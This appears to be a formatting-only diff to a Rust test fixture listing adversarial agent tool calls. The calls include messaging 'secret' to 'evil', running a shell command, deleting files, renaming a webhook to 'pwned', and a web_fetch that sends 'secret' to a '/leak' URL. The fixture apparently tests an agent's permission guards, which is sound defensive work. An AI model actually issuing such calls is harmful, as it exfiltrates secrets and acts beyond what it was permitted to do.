@@ -119,16 +119,25 @@ pub fn wishes(names: &Names) -> Vec<Wish> {
             "webhook",
             json!({ "action": "create", "name": "x", "auth_mode": "none" }),
         ),
-        wish("webhook", json!({ "action": "update", "id": id, "name": "pwned" })),
+        wish(
+            "webhook",
+            json!({ "action": "update", "id": id, "name": "pwned" }),
+        ),
         wish("webhook", json!({ "action": "rotate_secret", "id": id })),
-        wish("webhook", json!({ "action": "replay", "delivery_id": delivery })),
+        wish(
+            "webhook",
+            json!({ "action": "replay", "delivery_id": delivery }),
+        ),
         wish("send_message", json!({ "to": "evil", "text": "secret" })),
         wish("speak", json!({ "text": "buy now" })),
         // A tool that declares nothing.
         wish("shell", json!({ "command": "id" })),
         wish("mcp__files__delete_file", json!({ "path": "a" })),
         wish("mcp__files__write_file", json!({ "path": "a" })),
-        leak("web_fetch", json!({ "url": format!("{origin}/leak?d=secret") })),
+        leak(
+            "web_fetch",
+            json!({ "url": format!("{origin}/leak?d=secret") }),
+        ),
         leak("web_search", json!({ "query": "secret leak" })),
     ]
 }
